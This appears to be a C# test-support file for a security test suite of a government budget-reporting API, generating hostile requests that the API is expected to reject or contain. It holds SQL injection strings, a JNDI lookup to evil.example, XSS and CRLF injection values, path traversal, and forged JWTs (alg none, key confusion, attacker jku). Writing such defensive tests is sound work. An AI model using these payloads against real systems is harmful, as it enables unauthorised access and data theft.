using System.Globalization;
using System.Security.Cryptography;
using System.Text;

namespace Infocentre.Api.Tests.Security.Support;

/// <summary>Who sends a hostile request.</summary>
internal enum Caller
{
    /// <summary>A reader of MIN09 with a valid token (the hostile part is elsewhere in the request).</summary>
    Min09Reader,

    /// <summary>No credentials at all.</summary>
    Anonymous,

    /// <summary>The token is built by the case from the instance's signing key and a valid MIN09 reader token.</summary>
    Custom,
}

/// <summary>What a 200 must show: the hostile part had no effect.</summary>
internal enum Outcome
{
    /// <summary>An error status; nothing else to check.</summary>
    Error,

    /// <summary>200 with no row at all (the hostile value matched nothing).</summary>
    NoRows,

    /// <summary>200 with rows of MIN09 only (the caller's perimeter).</summary>
    OnlyCallersRows,
}

/// <summary>
/// One hostile request: its URL ("{E}" is the latest exercice), who sends it, extra headers, the statuses
/// accepted, and for a 200 what the rows must show.
/// </summary>
internal sealed record HostileCase(string Name, string Category, string Url, int[] Expected)
{
    public Caller Caller { get; init; } = Caller.Min09Reader;

    public Func<byte[], string, string>? Token { get; init; }

    public Action<HttpRequestMessage>? Configure { get; init; }

    public HttpMethod Method { get; init; } = HttpMethod.Get;

    public Outcome Outcome { get; init; } = Outcome.Error;

    /// <summary>The request carries SQL-looking text that a 400 may legitimately quote back.</summary>
    public bool QuotesSql { get; init; }

    /// <summary>Run on PostgreSQL too (cases whose SQL differs by engine), not only on SQLite.</summary>
    public bool BothEngines { get; init; }
}

/// <summary>
/// The auth/parameter/encoding side of the hostile-request suite (the OData-syntax side lives in
/// tests/Infocentre.Api.Tests/OData/). Cases are generated from lists of hostile values × routes.
/// </summary>
internal static class HostileCases
{
    private const string Rows40 = "/api/reports/INF-BUD-40/rows";
    private const string OData40 = "/odata/ConsommationParProgramme";

    private static readonly int[] BadRequest = [400];
    private static readonly int[] Unauthorized = [401];
    private static readonly int[] Forbidden = [403];
    private static readonly int[] NotFound = [404];
    private static readonly int[] Ok = [200];

    /// <summary>Hostile values of an int parameter (exercice): all are a 400 naming the parameter.</summary>
    private static readonly string[] IntValues =
    [
        "{E} or 1 eq 1", "{E})", "{E}) or (1 eq 1", "{E};DROP TABLE fact_credit", "{E}'--", "{E}' OR '1'='1", "Exercice", "@x", "$it/Exercice",
        "{E} foo", "1e3", "0x7E8", "{E}.0", "{E},2023", "99999999999", "-99999999999", "2147483648", "", " {E}", "{E} ", "２０２４", "٢٠٢٤",
        "\u202E4202", "{E}\u200B", "\U0001F600", "null", "NaN", "Infinity", "true", "1_000", "({E})", "-0x1", "{E}\n", "{E}\t", "\u0000{E}",
        "{E}\u0000", "raw:%C0%AF", "raw:%C0%B2%C0%B0%C0%B2%C0%B4", "raw:%FF%FE", "raw:%ZZ", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>",
    ];

    /// <summary>Hostile values of an enumerated string parameter (INF-DEP-02 statut: PRE, FAC, PAY): all are a 400.</summary>
    private static readonly string[] EnumValues =
    [
        "PAY' or '1' eq '1", "PAY' or Statut ne '", "pay", "PAY ", " PAY", "PAY\u0000", "PAY,FAC", "PAY\u202E", "ＰＡＹ", "PAY--", "*", "%", "@statut", "",
        "PAY\r\nX-Injected: 1", "raw:%C0%50AY",
    ];

    /// <summary>
    /// Hostile values of a text parameter with a declared form (INF-BUD-40 ministere, pattern ^MIN\d{2}$):
    /// a 400 naming the parameter, before any query runs.
    /// </summary>
    private static readonly string[] StringValuesOutOfPattern =
    [
        "MIN09' or '1' eq '1", "MIN18') or (1 eq 1", "' or 1 eq 1 or '", "MIN09\u202E", "MIN09\U0001F600", "raw:%C0%AF", "raw:%ZZ", "'; DROP TABLE api_key; --",
        "MIN09\\", "MIN%", "MIN_9", "*", "MIN09' or Ministere ne '", "@ministere", "MinistereCode", "$it/MinistereCode", "MIN09 ", "min09", new string('A', 200),
    ];

    /// <summary>Hostile values of a free string parameter that break its contract: a 400.</summary>
    private static readonly string[] StringValuesRejected = ["", new string('A', 201), "MIN09\u0000", "\u0001", "MIN09\nMIN18", "MIN09\r\n", "\u007F", "\u0085MIN09"];

    /// <summary>REST filter expressions that must be refused (400).</summary>
    private static readonly string[] RejectedFilters =
    [
        "1 eq 1;DROP TABLE x", "Ministere eq 'MIN09' or 1 eq 1 --", "') or ('1'='1", "Ministere eq 'MIN18'); DELETE FROM api_key; --", "MinistereCode eq 'MIN18'",
        "Programme/Code eq '0163'", "Paye gt", "(Paye gt 1", "Paye gt 1)", "Paye eq 'x'", "Ministere eq MIN18", "exists(Ministere)", "Ministere in ('MIN18'",
        "contains(Ministere,", "matchesPattern(Ministere,'(a+)+$')", "Paye/any(x:x eq 1)", "Paye add 1 eq", "$filter=1", "SELECT * FROM api_key",
        "Ministere eq 'MIN09' UNION SELECT secret_hash FROM api_key", string.Concat(Enumerable.Repeat("not(", 120)) + "true" + new string(')', 120),
        string.Join(" or ", Enumerable.Range(0, 60).Select(i => $"Programme eq '{i:0000}'")),
        // Huge and non-finite numbers against a decimal column: the library overflows while binding.
        "Paye gt 1.0E+400", "Paye gt 1.0E+30", "Paye gt -1.0E+30", "Paye gt 79228162514264337593543950336", "Paye gt INF", "Paye gt NaN", "Paye gt 3.4E+38f",
        "round(Paye div 0) gt 1",
        // cast is not among the allowed functions.
        "cast(Ministere,'Edm.Int32') eq 1",
    ];

    /// <summary>REST filter expressions that are valid OData: 200, and still only the caller's rows.</summary>
    private static readonly string[] AcceptedFilters =
    [
        "Ministere eq 'MIN18'", "Ministere ne 'MIN09'", "Ministere eq @m", "Paye gt 1e10",
        "Paye gt 9223372036854775807", "Paye gt 79228162514264337593543950335M", "startswith(Ministere,'MIN1')",
    ];

    private static readonly string[] RejectedOrderBys =
    [
        "Ministere;DELETE", "Ministere desc, (SELECT 1)", "Nope", "Ministere sideways", "Ministere,Ministere", "MinistereCode",
        "Ministere,Programme,ProgrammeLibelle,MontantEngage,Bascule,CertifieNonSolde,PreEnregistre,Facture,Paye,AeConsommees,CpConsommes",
        "@a", "Ministere desc desc",
    ];

    public static IReadOnlyDictionary<string, HostileCase> All { get; } = Build().ToDictionary(c => c.Name, StringComparer.Ordinal);

    private static IEnumerable<HostileCase> Build()
    {
        var n = 0;
        string Id(string category) => $"{category}-{++n:000}";

        // Report parameters: an int, an enumerated string, a free string; REST and OData alike.
        foreach (var value in IntValues)
        {
            yield return new(Id("param"), "int parameter " + Show(value), $"{Rows40}?exercice={Encode(value)}", BadRequest) { BothEngines = true, QuotesSql = true };
            yield return new(Id("param"), "int parameter (OData) " + Show(value), $"{OData40}?exercice={Encode(value)}", BadRequest) { QuotesSql = true };
        }

        foreach (var value in EnumValues)
        {
            yield return new(Id("param"), "enumerated parameter " + Show(value), $"/api/reports/INF-DEP-02/rows?exercice={{E}}&statut={Encode(value)}", BadRequest) { QuotesSql = true };
            yield return new(Id("param"), "enumerated parameter (OData) " + Show(value), $"/odata/DemandesPaiementParStatut?exercice={{E}}&statut={Encode(value)}", BadRequest) { QuotesSql = true };
        }

        foreach (var value in StringValuesOutOfPattern)
        {
            yield return new(Id("param"), "string parameter " + Show(value), $"{Rows40}?exercice={{E}}&ministere={Encode(value)}", BadRequest) { BothEngines = true, QuotesSql = true };
            yield return new(Id("param"), "string parameter (OData) " + Show(value), $"{OData40}?exercice={{E}}&ministere={Encode(value)}", BadRequest) { QuotesSql = true };
        }

        foreach (var value in StringValuesRejected)
        {
            yield return new(Id("param"), "string parameter out of contract " + Show(value), $"{Rows40}?exercice={{E}}&ministere={Encode(value)}", BadRequest) { QuotesSql = true };
        }

        // Names that are not parameters, repeated parameters, aliases standing for parameters.
        foreach (var (query, label) in new[]
        {
            ("exercice={E}&exercice={E}", "repeated parameter"), ("exercice={E}&Exercice={E}", "parameter name in another case"),
            ("exercice%5B%5D={E}", "array-style name"), ("exercice={E}&@exercice=Exercice", "alias for a parameter (REST)"),
            ("exercice={E}&$filter=Ministere eq 'MIN18'", "OData option on the REST route"), ("exercice=@e&@e={E}", "parameter given as an alias"),
            ("exercice={E}&access_token=abc", "access_token as a parameter"), ("exercice={E}&ministere=MIN09&ministere=MIN18", "repeated string parameter"),
            ("exercice={E}&top=-1", "negative top"), ("exercice={E}&top=abc", "non-numeric top"), ("exercice={E}&top=1e3", "exponent top"),
            ("exercice={E}&top=99999999999", "top beyond int"), ("exercice={E}&top=100001", "top above MaxTop"), ("exercice={E}&skip=-1", "negative skip"),
            ("exercice={E}&skip=abc", "non-numeric skip"), ("exercice={E}&skip=9223372036854775808", "skip beyond long"), ("exercice={E}&count=maybe", "non-boolean count"),
            ("exercice={E}&count=1", "count as a number"),
        })
        {
            yield return new(Id("param"), label, $"{Rows40}?{query}", BadRequest) { BothEngines = true };
        }

        foreach (var (query, label) in new[]
        {
            ("exercice=@e&@e={E}", "parameter given as an alias"), ("exercice={E}&exercice=2023", "repeated parameter"),
            ("exercice={E}&access_token=abc", "access_token as a parameter"), ("exercice={E}&$top=100001", "$top above MaxTop"),
            ("exercice={E}&$top=2147483648", "$top beyond int"), ("exercice={E}&$skip=-1", "negative $skip"), ("exercice={E}&$top=-1", "negative $top"),
        })
        {
            yield return new(Id("param"), label + " (OData)", $"{OData40}?{query}", BadRequest);
        }

        foreach (var query in new[] { "ministere=MIN18", "exercice={E}", "access_token=abc", "MinistereCode=MIN18", "perimetre=interministeriel" })
        {
            yield return new(Id("param"), "parameter on an entity set: " + query, $"/odata/Credits?{query}", BadRequest);
        }

        // Aliases carrying expressions: never bound into the fixed filter, never widen the perimeter.
        foreach (var (query, label) in new[]
        {
            ("exercice={E}&@exercice=Exercice", "request alias named like a parameter"), ("exercice={E}&@ministere='MIN18'", "request alias naming another ministry"),
            ("exercice={E}&$filter=Ministere eq @m&@m=Programme", "alias carrying a property"), ("exercice={E}&$filter=Ministere eq @m&@m='MIN18'", "alias naming another ministry"),
            ("exercice={E}&$filter=Ministere eq @m&@m=Ministere", "alias making the filter a tautology"),
        })
        {
            yield return new(Id("alias"), label, $"{OData40}?{query}", Ok) { Outcome = Outcome.OnlyCallersRows, BothEngines = true };
        }

        yield return new(Id("alias"), "alias in an entity set filter", "/odata/Credits?@x=1&$filter=AeLfi gt @x", Ok) { Outcome = Outcome.OnlyCallersRows, BothEngines = true };
        yield return new(Id("alias"), "alias tautology on an entity set", "/odata/Credits?$filter=MinistereCode eq @m&@m=MinistereCode", Ok) { Outcome = Outcome.OnlyCallersRows, BothEngines = true };

        // REST filter and orderby: refused, or accepted and still inside the perimeter.
        foreach (var filter in RejectedFilters)
        {
            yield return new(Id("filter"), "REST filter " + Show(filter), $"{Rows40}?exercice={{E}}&filter={Encode(filter)}", BadRequest) { BothEngines = true, QuotesSql = true };
        }

        foreach (var filter in AcceptedFilters)
        {
            yield return new(Id("filter"), "valid REST filter " + Show(filter), $"{Rows40}?exercice={{E}}&filter={Encode(filter)}", Ok) { Outcome = Outcome.OnlyCallersRows, BothEngines = true };
        }

        foreach (var order in RejectedOrderBys)
        {
            yield return new(Id("orderby"), "REST orderby " + Show(order), $"{Rows40}?exercice={{E}}&orderby={Encode(order)}", BadRequest) { BothEngines = true, QuotesSql = true };
        }

        yield return new(Id("filter"), "integer overflow in SQL arithmetic", $"/api/reports/INF-BUD-53/rows?exercice={{E}}&filter={Encode("PosteEj mul 2147483647 gt 0")}", [200, 400])
        { Outcome = Outcome.OnlyCallersRows, BothEngines = true };

        // Overlong requests and odd encodings in the path.
        var longValue = new string('A', 9_000);
        yield return new(Id("encoding"), "query over 8 KB (REST)", $"{Rows40}?exercice={{E}}&ministere={longValue}", [414]);
        yield return new(Id("encoding"), "query over 8 KB (OData)", $"/odata/Credits?$filter=MinistereCode eq '{longValue}'", [414]);
        yield return new(Id("encoding"), "query over 8 KB (catalogue)", $"/api/reports?q={longValue}", [414]);
        yield return new(Id("encoding"), "path over 8 KB", $"/api/reports/{longValue}/rows", [414]);
        yield return new(Id("encoding"), "query over 8 KB, anonymous", $"/api/reports?q={longValue}", [414]) { Caller = Caller.Anonymous };
        yield return new(Id("encoding"), "header over 32 KB", "/api/reports", [431]) { Configure = r => r.Headers.TryAddWithoutValidation("X-Padding", new string('A', 40_000)) };
        yield return new(Id("encoding"), "many headers over 32 KB", "/api/reports", [431])
        {
            Configure = r =>
            {
                for (var i = 0; i < 40; i++)
                {
                    r.Headers.TryAddWithoutValidation("X-Padding-" + i.ToString(CultureInfo.InvariantCulture), new string('B', 1_000));
                }
            },
        };
        yield return new(Id("encoding"), "%00 in the report code", $"/api/reports/INF-BUD-40%00/rows?exercice={{E}}", [400, 404]);
        yield return new(Id("encoding"), "%00 in the entity set", "/odata/Credits%00", [400, 404]);
        yield return new(Id("encoding"), "overlong UTF-8 in the report code", "/api/reports/%C0%AF/rows", NotFound);
        yield return new(Id("encoding"), "overlong UTF-8 slash traversal", "/api/reports/..%C0%AF..%C0%AFaudit/rows", NotFound);
        yield return new(Id("encoding"), "encoded traversal to the audit", "/api/reports/..%2F..%2Faudit/rows", NotFound);
        yield return new(Id("encoding"), "encoded traversal after rows", $"{Rows40}/..%2F..%2F..%2Faudit", NotFound);
        yield return new(Id("encoding"), "RTL mark in the report code", "/api/reports/%E2%80%AEINF-BUD-40/rows", NotFound);
        yield return new(Id("encoding"), "emoji report code", "/api/reports/%F0%9F%98%80/rows", NotFound);
        yield return new(Id("encoding"), "accented entity set", "/odata/Cr%C3%A9dits", NotFound);
        yield return new(Id("encoding"), "unknown parameter values list", "/api/reports/INF-BUD-40/parameters/%00/values", [400, 404]);
        yield return new(Id("encoding"), "report code as SQL", $"/api/reports/{Encode("INF' OR '1'='1")}/rows", NotFound) { QuotesSql = true };
        yield return new(Id("encoding"), "POST on the catalogue", "/api/reports", [405]) { Method = HttpMethod.Post };
        yield return new(Id("encoding"), "DELETE on an entity set", "/odata/Credits", [405]) { Method = HttpMethod.Delete };
        yield return new(Id("encoding"), "PUT on report rows", Rows40, [405]) { Method = HttpMethod.Put };
        yield return new(Id("encoding"), "PATCH on an entity set", "/odata/Credits", [405]) { Method = HttpMethod.Patch };
        yield return new(Id("encoding"), "POST $batch", "/odata/$batch", [404, 405]) { Method = HttpMethod.Post };
        yield return new(Id("encoding"), "$expand on an entity set", "/odata/Credits?$expand=*", BadRequest);

        // Tokens that must not authenticate, on four routes.
        foreach (var (name, token) in BadTokens())
        {
            foreach (var url in new[] { "/api/reports", "/odata/Credits?$top=1", $"{Rows40}?exercice={{E}}", "/api/audit" })
            {
                yield return new(Id("token"), $"{name} on {url}", url, Unauthorized) { Caller = Caller.Custom, Token = token };
            }
        }

        foreach (var (name, configure) in BadCredentialCarriers())
        {
            yield return new(Id("token"), name, "/api/reports", Unauthorized) { Caller = Caller.Anonymous, Configure = configure };
        }

        yield return new(Id("token"), "valid token in the query string", "/api/reports?access_token={T}", Unauthorized) { Caller = Caller.Anonymous };

        // Authenticated, but without the role the route requires.
        foreach (var (roleClaims, url) in new (object Roles, string Url)[]
        {
            ("reader", "/api/audit"), ("exporter", "/api/audit"), ("analyst", "/api/audit"), ("loader", "/api/reports"), ("loader", "/odata/Credits"),
            ("loader", $"{Rows40}?exercice={{E}}"), ("Reader", "/api/reports"), ("READER", "/odata/Credits"), ("reader ", "/api/reports"),
            ("reader,admin", "/api/audit"), ("administrator", "/api/audit"), ("Admin", "/api/audit"), (new[] { "guest", "viewer" }, "/api/reports"),
            (Array.Empty<string>(), "/api/reports"), ("", "/odata/Credits"),
        })
        {
            var shown = roleClaims is string s ? $"'{s}'" : "[" + string.Join(",", (string[])roleClaims) + "]";
            yield return new(Id("role"), $"role {shown} on {url}", url, Forbidden)
            {
                Caller = Caller.Custom,
                Token = (key, _) => Tokens.Reader(key, new() { ["role"] = roleClaims, ["sub"] = "hostile-role" }),
            };
        }

        yield return new(Id("role"), "admin role in a 'roles' claim", "/api/audit", Forbidden)
        {
            Caller = Caller.Custom, Token = (key, _) => Tokens.Reader(key, new() { ["role"] = null, ["roles"] = "admin", ["sub"] = "hostile-role" }),
        };
        yield return new(Id("role"), "admin role in the WS-Federation claim type", "/api/audit", Forbidden)
        {
            Caller = Caller.Custom,
            Token = (key, _) => Tokens.Reader(key, new() { ["role"] = null, ["http://schemas.microsoft.com/ws/2008/06/identity/claims/role"] = "admin", ["sub"] = "hostile-role" }),
        };
    }

    /// <summary>Bearer tokens that are forged, expired, for someone else, unsigned or malformed.</summary>
    private static IEnumerable<(string Name, Func<byte[], string, string> Token)> BadTokens()
    {
        var now = DateTimeOffset.UtcNow.ToUnixTimeSeconds();
        yield return ("forged (another key)", (_, _) => Tokens.Reader(RandomNumberGenerator.GetBytes(32)));
        yield return ("forged (16-byte key)", (_, _) => Tokens.Reader(RandomNumberGenerator.GetBytes(16)));
        yield return ("expired", (key, _) => Tokens.Reader(key, new() { ["iat"] = now - 3600, ["nbf"] = now - 3600, ["exp"] = now - 300 }));
        yield return ("not yet valid", (key, _) => Tokens.Reader(key, new() { ["nbf"] = now + 3600, ["exp"] = now + 7200 }));
        yield return ("without expiry", (key, _) => Tokens.Reader(key, new() { ["exp"] = null }));
        yield return ("wrong audience", (key, _) => Tokens.Reader(key, new() { ["aud"] = "another-api" }));
        yield return ("audiences without ours", (key, _) => Tokens.Reader(key, new() { ["aud"] = new[] { "another-api", "infocentre-admin" } }));
        yield return ("empty audience", (key, _) => Tokens.Reader(key, new() { ["aud"] = "" }));
        yield return ("wrong issuer", (key, _) => Tokens.Reader(key, new() { ["iss"] = "https://evil.example" }));
        yield return ("issuer in another case", (key, _) => Tokens.Reader(key, new() { ["iss"] = "Infocentre-Tests" }));
        yield return ("homoglyph issuer", (key, _) => Tokens.Reader(key, new() { ["iss"] = "infocentre-t\u0435sts" }));
        // Claims the JWT handler quotes back in WWW-Authenticate: non-ASCII or CR/LF must not break the response.
        yield return ("issuer with CR LF (header injection)", (key, _) => Tokens.Reader(key, new() { ["iss"] = "evil\r\nSet-Cookie: pwned=1" }));
        yield return ("audience with non-ASCII", (key, _) => Tokens.Reader(key, new() { ["aud"] = "infocentr\u00E9" }));
        yield return ("without issuer", (key, _) => Tokens.Reader(key, new() { ["iss"] = null }));
        yield return ("alg none, unsigned", (_, _) => Tokens.Reader(null, new() { ["role"] = "admin", ["perimetre"] = "interministeriel" }, alg: "none"));
        yield return ("alg NONE, unsigned", (_, _) => Tokens.Reader(null, alg: "NONE"));
        yield return ("alg none with a signature", (key, _) => Tokens.Reader(key, alg: "none"));
        yield return ("alg RS256 signed with the HMAC key", (key, _) => Tokens.Reader(key, alg: "RS256"));
        yield return ("alg HS512 header over an HS256 signature", (key, _) => Tokens.Reader(key, alg: "HS512"));
        yield return ("embedded jwk of the attacker", (_, _) =>
        {
            var attacker = RandomNumberGenerator.GetBytes(32);
            return Tokens.Reader(attacker, header: new Dictionary<string, object> { ["jwk"] = new Dictionary<string, string> { ["kty"] = "oct", ["k"] = Microsoft.IdentityModel.Tokens.Base64UrlEncoder.Encode(attacker) } });
        });
        yield return ("jku pointing elsewhere", (_, _) => Tokens.Reader(RandomNumberGenerator.GetBytes(32), header: new Dictionary<string, object> { ["jku"] = "https://evil.example/jwks.json" }));
        yield return ("kid path traversal", (_, _) => Tokens.Reader(new byte[32], header: new Dictionary<string, object> { ["kid"] = "../../../../dev/null" }));
        yield return ("payload tampered to interministerial admin", (key, valid) =>
        {
            var parts = valid.Split('.');
            var forged = Tokens.Reader(key, new() { ["role"] = "admin", ["perimetre"] = "interministeriel", ["ministere"] = null }).Split('.');
            return $"{parts[0]}.{forged[1]}.{parts[2]}";
        });
        yield return ("payload tampered to another ministry", (key, valid) =>
        {
            var parts = valid.Split('.');
            return $"{parts[0]}.{Tokens.Reader(key, new() { ["ministere"] = "MIN18" }).Split('.')[1]}.{parts[2]}";
        });
        yield return ("signature stripped", (_, valid) => valid[..(valid.LastIndexOf('.') + 1)]);
        yield return ("signature truncated", (_, valid) => valid[..^4]);
        yield return ("signature of another token", (key, valid) =>
        {
            var admin = Tokens.Reader(key, new() { ["role"] = "admin" }).Split('.');
            return $"{admin[0]}.{admin[1]}.{valid.Split('.')[2]}";
        });
        yield return ("garbage", (_, _) => "garbage");
        yield return ("two segments", (_, _) => "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0");
        yield return ("five segments (JWE shape)", (_, valid) => valid + ".AAAA.BBBB");
        yield return ("not base64", (_, _) => "!!!.@@@.###");
        yield return ("7 KB token", (_, _) => new string('A', 7_000));
        yield return ("JSON instead of a JWT", (_, _) => "{\"alg\":\"none\",\"role\":\"admin\"}");
        yield return ("valid token followed by junk", (_, valid) => valid + " junk");
        yield return ("valid token followed by a comma", (_, valid) => valid + ",");
    }

    /// <summary>Credentials in the wrong place or shape (no valid Authorization header).</summary>
    private static IEnumerable<(string Name, Action<HttpRequestMessage> Configure)> BadCredentialCarriers()
    {
        yield return ("Bearer scheme without token", r => r.Headers.TryAddWithoutValidation("Authorization", "Bearer"));
        yield return ("Bearer scheme with spaces only", r => r.Headers.TryAddWithoutValidation("Authorization", "Bearer    "));
        yield return ("Basic credentials", r => r.Headers.TryAddWithoutValidation("Authorization", "Basic " + Convert.ToBase64String(Encoding.ASCII.GetBytes("admin:admin"))));
        yield return ("Digest scheme", r => r.Headers.TryAddWithoutValidation("Authorization", "Digest username=\"admin\""));
        yield return ("token in a cookie", r => r.Headers.TryAddWithoutValidation("Cookie", "access_token=eyJhbGciOiJub25lIn0.eyJyb2xlIjoiYWRtaW4ifQ."));
        yield return ("empty X-Api-Key", r => r.Headers.TryAddWithoutValidation("X-Api-Key", ""));
        yield return ("malformed X-Api-Key", r => r.Headers.TryAddWithoutValidation("X-Api-Key", "ick_short_key"));
        yield return ("unknown X-Api-Key", r => r.Headers.TryAddWithoutValidation("X-Api-Key", "ick_abcdefgh_" + new string('x', 40)));
        yield return ("X-Api-Key with SQL", r => r.Headers.TryAddWithoutValidation("X-Api-Key", "ick_' OR 1=1 --_" + new string('x', 40)));
        yield return ("two X-Api-Key headers", r =>
        {
            r.Headers.TryAddWithoutValidation("X-Api-Key", "ick_abcdefgh_" + new string('x', 40));
            r.Headers.TryAddWithoutValidation("X-Api-Key", "ick_abcdefgh_" + new string('y', 40));
        });
        yield return ("9 KB X-Api-Key", r => r.Headers.TryAddWithoutValidation("X-Api-Key", new string('k', 9_000)));
    }

    /// <summary>The value as sent: escaped, unless "raw:" marks it as already percent-encoded.</summary>
    private static string Encode(string value) =>
        value.StartsWith("raw:", StringComparison.Ordinal) ? value[4..] : Uri.EscapeDataString(value).Replace("%7BE%7D", "{E}", StringComparison.Ordinal);

    private static string Show(string value)
    {
        var text = new StringBuilder();
        foreach (var c in value.Length > 40 ? value[..40] + "…" : value)
        {
            text.Append(char.IsControl(c) || char.IsSurrogate(c) || c > '\u007E' ? $"\\u{(int)c:X4}" : c.ToString());
        }

        return $"'{text}'";
    }
}
